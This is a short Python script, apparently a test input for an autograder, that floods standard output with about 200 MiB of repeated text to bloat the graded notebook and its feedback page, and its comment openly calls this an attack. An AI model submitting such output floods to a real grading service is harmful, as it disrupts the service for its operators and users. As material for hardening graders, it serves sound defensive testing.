# attack: prints 200 MiB, to bloat the graded notebook and the feedback page
import os, sys
line = "x" * 1023 + "\n"
for _ in range(100 * 1024):
    sys.stdout.write(line)
os.write(1, (line * 1024).encode() * 100)
